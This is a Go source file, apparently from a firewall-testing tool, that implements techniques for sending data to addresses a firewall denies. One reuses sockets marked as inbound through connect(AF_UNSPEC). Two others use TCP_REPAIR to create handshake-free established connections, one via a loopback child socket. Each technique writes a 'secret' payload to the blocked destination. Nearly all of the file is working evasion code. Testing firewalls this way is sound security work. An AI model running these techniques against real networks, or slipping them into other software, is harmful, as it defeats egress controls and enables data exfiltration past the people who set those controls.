// SPDX-License-Identifier: Apache-2.0

package main

import (
	"errors"
	"fmt"
	"net/netip"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// Sockets that say they were called: a wall remembers at the socket that a
// client from outside opened the connection, so that answers pass. These attacks
// carry that mark over to a connection of their own.

// unspecReuse listens, lets a real client connect and accepts it; then it
// disconnects one of the two sockets with connect(AF_UNSPEC) and connects it to
// the denied address. No capability is needed. The event "ready" says that it
// listens, "called" that the client came.
func unspecReuse(c *call) func() error {
	at := c.endFlag("listen", "ADDR:PORT to wait for the client at")
	to := c.endFlag("to", "ADDR:PORT that is denied")
	which := c.String("which", "accepted", "socket to use again: accepted or listener")
	data := c.String("data", "secret", "what to send")
	return func() error {
		if !to.IsValid() {
			return wrongUsage("parse arguments: --to is missing")
		}
		l, err := listen(*at, 8)
		if err != nil {
			return err
		}
		defer l.close()
		conn, err := c.called(l)
		if err != nil {
			return err
		}
		again := conn
		switch *which {
		case "accepted":
		case "listener":
			again = l
		default:
			return wrongUsage("parse arguments: no such socket: %q", *which)
		}
		if err := again.disconnect(); err != nil {
			return err
		}
		return c.secret(again, *to, *data)
	}
}

// called waits for a client and talks to it, so that the connection is marked on
// both ways.
func (c *call) called(l *sock) (*sock, error) {
	c.event("ready", func(r *result) { r.Local = l.local().String() })
	conn, peer, err := l.accept(c.deadline)
	if err != nil {
		return nil, err
	}
	if err := conn.write([]byte("welcome\n"), c.deadline); err != nil {
		return nil, err
	}
	c.event("called", func(r *result) { r.Peer = peer.String() })
	time.Sleep(50 * time.Millisecond) // until its acknowledgement is here
	return conn, nil
}

// secret connects a socket to the denied address and sends.
func (c *call) secret(s *sock, to netip.AddrPort, data string) error {
	start := time.Now()
	err := s.connect(to, c.deadline)
	c.MS = float64(time.Since(start).Microseconds()) / 1000
	c.Local, c.Peer = s.local().String(), to.String()
	if err != nil {
		return err
	}
	if err := s.write([]byte(data), c.deadline); err != nil {
		return err
	}
	c.Sent = len(data)
	b, err := s.read(c.deadlineOr(time.Now().Add(500 * time.Millisecond)))
	c.Received, c.Got = len(b), text(b)
	if err != nil && !errors.Is(err, unix.ETIMEDOUT) {
		return err
	}
	return nil
}

// loopbackChildRepair lets a client mark a listener, takes a child of it from
// its own loopback (inheriting the mark, never bound to a peer at the wall), has
// it forget its peer, and connects it in repair mode: no SYN is ever sent, the
// first packet is data. Needs CAP_NET_ADMIN. --no-client leaves the client out.
func loopbackChildRepair(c *call) func() error {
	port := c.Int("port", 8080, "port to listen at, on every address")
	v6 := c.Bool("6", false, "listen on IPv6")
	to := c.endFlag("to", "ADDR:PORT that is denied")
	alone := c.Bool("no-client", false, "do not wait for a client from outside")
	data := c.String("data", "secret", "what to send")
	return func() error {
		if !to.IsValid() {
			return wrongUsage("parse arguments: --to is missing")
		}
		any, loop := netip.IPv4Unspecified(), netip.AddrFrom4([4]byte{127, 0, 0, 1})
		if *v6 {
			any, loop = netip.IPv6Unspecified(), netip.IPv6Loopback()
		}
		l, err := listen(netip.AddrPortFrom(any, uint16(*port)), 8)
		if err != nil {
			return err
		}
		defer l.close()
		if !*alone {
			if _, err := c.called(l); err != nil {
				return err
			}
		}
		client, err := open(loop, false, unix.SOCK_STREAM, unix.IPPROTO_TCP)
		if err != nil {
			return err
		}
		defer client.close()
		if err := client.connect(netip.AddrPortFrom(loop, uint16(*port)), c.deadline); err != nil {
			return err
		}
		child, _, err := l.accept(c.deadline)
		if err != nil {
			return err
		}
		defer child.close()
		if err := child.disconnect(); err != nil {
			return err
		}
		return c.repaired(child, netip.AddrPort{}, *to, 0, 1, *data)
	}
}

// tcpRepair makes a socket established with the denied address without a
// handshake (TCP_REPAIR, CAP_NET_ADMIN) and sends data: a wall that judges only
// SYNs sees none.
func tcpRepair(c *call) func() error {
	to := c.endFlag("to", "ADDR:PORT that is denied")
	from := c.endFlag("from", "ADDR:PORT to bind to first")
	seq := c.Uint("seq", 0, "sequence number to begin with; 0: the kernel's choice")
	ack := c.Uint("ack", 1, "number expected from the peer")
	data := c.String("data", "secret", "what to send")
	return func() error {
		if !to.IsValid() {
			return wrongUsage("parse arguments: --to is missing")
		}
		s, err := open(to.Addr(), false, unix.SOCK_STREAM, unix.IPPROTO_TCP)
		if err != nil {
			return err
		}
		defer s.close()
		return c.repaired(s, *from, *to, uint32(*seq), uint32(*ack), *data)
	}
}

// Values of TCP_REPAIR and TCP_REPAIR_QUEUE.
const (
	repairOn    = 1
	repairQuiet = -1 // off, without a window probe
	recvQueue   = 1
	sendQueue   = 2
)

// repaired connects s in repair mode and sends data.
func (c *call) repaired(s *sock, from, to netip.AddrPort, seq, ack uint32, data string) error {
	if err := s.set(unix.SOL_TCP, unix.TCP_REPAIR, repairOn); err != nil {
		return err
	}
	for _, q := range []struct {
		queue int
		seq   uint32
	}{{sendQueue, seq}, {recvQueue, ack}} {
		if q.seq == 0 {
			continue
		}
		if err := s.set(unix.SOL_TCP, unix.TCP_REPAIR_QUEUE, q.queue); err != nil {
			return err
		}
		if err := s.set(unix.SOL_TCP, unix.TCP_QUEUE_SEQ, int(int32(q.seq))); err != nil {
			return err
		}
	}
	if from.IsValid() {
		if err := s.bind(from); err != nil {
			return err
		}
	}
	if err := s.connect(to, c.deadline); err != nil {
		return err
	}
	// The peer has named no window: without one the data would wait for it.
	window := [5]uint32{ack, 65535, 65535, 65535, ack} // snd_wl1, snd_wnd, max_window, rcv_wnd, rcv_wup
	_, _, e := unix.Syscall6(unix.SYS_SETSOCKOPT, uintptr(s.fd), unix.SOL_TCP, unix.TCP_REPAIR_WINDOW, uintptr(ptr(&window)), unsafe.Sizeof(window), 0)
	if e != 0 {
		return fmt.Errorf("set window: %w", e)
	}
	if err := s.set(unix.SOL_TCP, unix.TCP_REPAIR, repairQuiet); err != nil {
		return err
	}
	c.Local, c.Peer = s.local().String(), to.String()
	if err := s.write([]byte(data), c.deadline); err != nil {
		return err
	}
	c.Sent = len(data)
	// The peer knows of no such connection and resets it, a wall may, too.
	if _, err := s.wait(unix.POLLIN, c.deadlineOr(time.Now().Add(300*time.Millisecond))); err == nil {
		if err := s.pending(); err != nil {
			return fmt.Errorf("send to %v: %w", to, err)
		}
	}
	return nil
}
